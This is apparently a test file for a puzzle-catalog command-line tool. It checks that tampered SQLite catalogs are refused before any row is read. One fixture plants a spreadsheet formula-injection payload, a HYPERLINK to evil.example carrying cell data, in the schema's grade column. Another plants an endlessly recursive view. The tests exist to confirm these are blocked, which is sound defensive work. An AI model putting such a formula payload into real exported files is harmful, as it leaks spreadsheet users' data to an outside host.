// Catalogs someone hands you: a foreign or damaged file is refused by every verb before a row
// is read, with exit 2 and one line naming what is wrong (audit may instead report it, exit 1),
// never an internal error; a view in a table's place is never read,
// and export never writes what audit would fail.
import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SCHEMA_VERSION } from '../../src/catalog/schema.js';
import { catalogSchemaSql } from '../../pipeline/catalog/schema.js';
import { buildSmallCatalog, copyCatalog, editAndReseal, editCatalog } from '../helpers/catalog.js';
import { cli, type CliResult } from '../helpers/cli.js';

let dir: string;
let base: string;
let n = 0;
beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'dominosa-foreign-'));
  base = join(dir, 'base.sqlite');
  buildSmallCatalog(base);
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

/** A copy of the base catalog changed by `edit` (raw SQL, digest resealed unless told). */
function damaged(edit: (d: Database.Database) => void, reseal = true): string {
  const path = copyCatalog(base, join(dir, `d${n++}.sqlite`));
  if (reseal) editAndReseal(path, edit);
  else editCatalog(path, edit);
  return path;
}

const BUILD = ['--sizes', '3..4', '--per-tier', '3', '--variants', '2', '--tier-by', 'nodes'];
const VERBS: Record<string, (db: string) => string[]> = {
  audit: (db) => ['audit', '--db', db, '--jobs', '1'],
  export: (db) => ['export', '--db', db, '--format', 'json', '--out', join(dir, `pack${n++}.json`)],
  build: (db) => ['build', ...BUILD, '--db', db],
  tune: (db) => ['tune', '--db', db, '--no-plot'],
  merge: (db) => ['merge', join(dir, `merged${n++}.sqlite`), db],
  migrate: (db) => ['migrate', '--db', db],
};

/** Refused as the issue asks: exit 2 with one line naming `what` (audit: or exit 1 with its report naming it). */
function expectRefused(verb: string, r: CliResult, what: RegExp): void {
  expect(r.stderr, `${verb}: ${r.stderr}`).not.toMatch(/internal error/);
  if (verb === 'audit' && r.code === 1) {
    expect(r.stdout + r.stderr).toMatch(what);
    return;
  }
  expect(r.code, `${verb}: ${r.stderr}`).toBe(2);
  expect(r.stderr.trimEnd().split('\n'), verb).toHaveLength(1);
  expect(r.stderr).toMatch(what);
}

describe('a foreign file whose meta table says it is a catalog (1.1)', () => {
  it('is refused by audit and export, naming what is missing', () => {
    const path = join(dir, 'meta-only.sqlite');
    // Raw: this makes a SQLite file that is not a catalog, nothing the catalog helpers read or tamper with.
    const d = new Database(path);
    d.exec(catalogSchemaSql().slice(0, catalogSchemaSql().indexOf(') STRICT;') + ') STRICT;'.length));
    d.exec(`INSERT INTO meta VALUES ('app', 'dominosa-catalog'), ('schema_version', '${SCHEMA_VERSION}')`);
    d.close();
    for (const verb of ['audit', 'export']) expectRefused(verb, cli(VERBS[verb](path)), /is missing/);
  });

  it('without its writer table is refused by build, naming the table', () => {
    const path = damaged((d) => d.exec('DROP TABLE writer'));
    expectRefused('build', cli(VERBS.build(path)), /table writer is missing/);
  });

  it('whose puzzles table is dropped while slots still refer to it is refused by export', () => {
    const path = damaged((d) => {
      d.pragma('foreign_keys = OFF');
      d.exec('DROP TABLE puzzles');
    }, false);
    expectRefused('export', cli(VERBS.export(path)), /table puzzles is missing/);
  });
});

describe("a build row whose recorded options are not dominosa's (1.1)", () => {
  for (const options of [
    'null',
    'garbage',
    '{"shard":null,"maxSlots":3}',
    '{"sizes":"3..4","shard":{"index":0,"count":1},"maxSlots":9}',
  ]) {
    it(`(${options}) is refused by merge, naming them`, () => {
      const path = damaged((d) => d.prepare('UPDATE builds SET options = ?').run(options));
      expectRefused('merge', cli(VERBS.merge(path)), /recorded options|not built with --shard/);
    });
  }
});

describe('a view in the place of the puzzles table (1.2)', () => {
  // Rows without end: a reader that selects from it never finishes.
  const ENDLESS = `CREATE VIEW puzzles AS WITH RECURSIVE r(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM r)
    SELECT x AS id, 3 AS m, 4 AS rows, 5 AS cols, '[]' AS grid, '[]' AS solution, 'easy' AS tier, x AS nodes, 1 AS attempts,
      'h' || x AS canonical_hash, NULL AS base_id, NULL AS transform, 1 AS seed, x AS slot, 'rejection' AS method, 1 AS build_id,
      1.0 AS score, 'c' AS checksum, 1 AS level, 'singles' AS grade FROM r`;
  for (const verb of Object.keys(VERBS).filter((v) => v !== 'migrate')) {
    it(`is refused by ${verb} before a row is read, naming it`, () => {
      const path = damaged((d) => {
        d.pragma('foreign_keys = OFF');
        d.exec('DROP TABLE puzzles');
        d.exec(ENDLESS);
      }, false);
      expectRefused(verb, cli(VERBS[verb](path)), /(view|table) puzzles/);
    });
  }
});

describe("a changed generated column's SQL (1.4)", () => {
  /** Level 1 named by a spreadsheet formula, level 5 as level 1: no row changes, every checksum holds. */
  const swapped = (): string =>
    damaged((d) => {
      const sql = d.prepare(`SELECT sql FROM sqlite_master WHERE name = 'puzzles'`).pluck().get() as string;
      const evil = sql
        .replace(`WHEN 1 THEN 'singles'`, `WHEN 1 THEN '=HYPERLINK("http://evil.example/?"&A1,"singles")'`)
        .replace(`WHEN 5 THEN 'sets'`, `WHEN 5 THEN 'singles'`);
      expect(evil).not.toBe(sql);
      // better-sqlite3 guards the schema's text unless told otherwise, as a careful writer would.
      d.unsafeMode(true);
      d.pragma('writable_schema = ON');
      d.prepare(`UPDATE sqlite_master SET sql = ? WHERE name = 'puzzles'`).run(evil);
      d.pragma('writable_schema = OFF');
    });

  it('is refused by export (no file written), with and without a grade filter, and failed by audit', () => {
    const path = swapped();
    const out = join(dir, 'evil.csv');
    expectRefused('export', cli(['export', '--db', path, '--format', 'csv', '--out', out]), /table puzzles .*differs/);
    expectRefused(
      'export',
      cli(['export', '--db', path, '--grade', 'singles', '--format', 'csv', '--out', out]),
      /table puzzles .*differs/,
    );
    expect(existsSync(out)).toBe(false);
    const audit = cli(VERBS.audit(path));
    expect(audit.code).toBe(1);
    expect(audit.stdout + audit.stderr).toMatch(/schema-mismatch/);
  });

  for (const verb of ['build', 'tune', 'merge']) {
    it(`is refused by ${verb}`, () => {
      expectRefused(verb, cli(VERBS[verb](swapped())), /table puzzles .*differs/);
    });
  }
});
